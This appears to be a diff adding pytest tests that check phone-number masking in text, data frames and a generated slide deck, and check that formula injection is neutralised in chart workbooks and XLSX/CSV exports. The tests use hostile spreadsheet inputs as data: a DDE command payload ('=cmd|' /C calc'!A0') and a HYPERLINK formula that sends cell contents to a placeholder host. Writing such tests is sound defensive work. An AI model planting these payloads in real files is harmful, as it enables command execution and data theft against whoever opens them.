@@ -180,3 +180,122 @@ def test_a_write_is_refused_on_the_server_for_a_role_that_may_not_and_audited(wr
     assert audit_rows()[-4:] == [
         ("liuyang", "viewer", "refused", {"action": a}) for a in ("import", "demo", "rollback", "retrain")
     ]
+
+
+@pytest.mark.parametrize(
+    ("text", "masked"),
+    [
+        ("联系我１３９１２３４５６７８", "联系我139****5678"),
+        ("微信wx13700000001", "微信wx137****0001"),
+        ("张先生13700000009", "张先生137****0009"),
+        ("电话：+86 138-1234-5678，谢谢", "电话：138****5678，谢谢"),
+        ("ＷＸ：１３８　１２３４　５６７８", "ＷＸ：138****5678"),
+        ("工单2013812345678号", "工单2013812345678号"),  # thirteen digits: not a mobile
+        ("保养很好，１０分", "保养很好，１０分"),  # full-width text without a number stays as it was
+    ],
+)
+def test_mobile_numbers_inside_text_are_masked_after_full_width_digits_are_read_as_digits(text, masked):
+    assert auth.mask_text(text) == masked
+
+
+def test_a_phone_typed_into_the_name_field_is_masked_but_codes_are_not():
+    import pandas as pd
+
+    frame = pd.DataFrame(
+        {
+            "customer_name": ["张先生13700000009", "李女士"],
+            "vin": ["LSV13700000009123", "LFV2A21K3N4131234"],
+            "phone": ["13812341234", None],
+            "comment": ["加我微信wx13700000001", None],
+            "visits": [3, 1],
+        }
+    )
+    out = auth.mask_frame(frame).astype(object).fillna("—")
+    assert out.to_dict("list") == {
+        "customer_name": ["张先生137****0009", "李女士"],
+        "vin": ["LSV13700000009123", "LFV2A21K3N4131234"],
+        "phone": ["138****1234", "—"],
+        "comment": ["加我微信wx137****0001", "—"],
+        "visits": [3, 1],
+    }
+
+
+def _deck_with(table_rows, categories, series_name="=cmd|' /C calc'!A0"):
+    from analytics import deck
+
+    slide = deck.Slide(
+        "changes",
+        "标题",
+        "联系我１３９１２３４５６７８",
+        table=[["customer", "comment"], *table_rows],
+        marks=[None] * (1 + len(table_rows)),
+        widths=[1.0, 3.0],
+    )
+    chart = deck.Slide(
+        "praise",
+        "车型",
+        "",
+        charts=[
+            deck.Chart(
+                "c", "column", "by model", categories, [deck.Series(series_name, [1.0] * len(categories))]
+            )
+        ],
+    )
+    return deck.render([slide, chart], "footer")
+
+
+def test_the_deck_masks_phones_in_every_text_it_shows():
+    import io
+
+    from pptx import Presentation
+
+    blob = _deck_with([["张先生13700000009", "微信wx13700000001"]], ["A"])
+    texts = []
+    for slide in Presentation(io.BytesIO(blob)).slides:
+        for shape in slide.shapes:
+            if shape.has_text_frame:
+                texts.append(shape.text_frame.text)
+            if shape.has_table:
+                texts += [c.text for row in shape.table.rows for c in row.cells]
+    joined = "\n".join(texts)
+    assert "张先生137****0009" in joined and "微信wx137****0001" in joined and "139****5678" in joined
+    assert "13700000009" not in joined and "5678" in joined
+
+
+def test_the_decks_embedded_chart_workbooks_hold_no_formula_made_from_data():
+    """A car model `=HYPERLINK("http://…"&A1,"点我")` became a <f> formula in the embedded workbook."""
+    import io
+    import zipfile
+
+    import openpyxl
+    from pptx import Presentation
+
+    hostile = '=HYPERLINK("http://example.invalid/?"&A1,"点我")'
+    blob = _deck_with([["a", "b"]], [hostile, "+SUM(1,2)", "途观L"])
+    chart = next(
+        s.chart for slide in Presentation(io.BytesIO(blob)).slides for s in slide.shapes if s.has_chart
+    )
+    workbook_blob = chart.part.chart_workbook.xlsx_part.blob
+    with zipfile.ZipFile(io.BytesIO(workbook_blob)) as archive:
+        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet
+    cells = [
+        c.value for row in openpyxl.load_workbook(io.BytesIO(workbook_blob)).active.iter_rows() for c in row
+    ]
+    assert "'" + hostile in cells and "'+SUM(1,2)" in cells and "途观L" in cells
+    assert "'=cmd|' /C calc'!A0" in cells
+
+
+def test_list_exports_neutralise_formula_column_names_too():
+    import io
+
+    import openpyxl
+    import pandas as pd
+
+    from analytics import export
+
+    frame = pd.DataFrame({'=HYPERLINK("x")': ["=1+1"], "model": pd.Series(["@SUM(A1)"], dtype="category")})
+    book = openpyxl.load_workbook(io.BytesIO(export.xlsx_bytes(frame)))
+    values = [c.value for row in book.active.iter_rows() for c in row]
+    assert values == ['\'=HYPERLINK("x")', "model", "'=1+1", "'@SUM(A1)"]
+    assert export.csv_bytes(frame).decode("utf-8-sig").splitlines()[0].startswith("\"'=HYPERLINK")
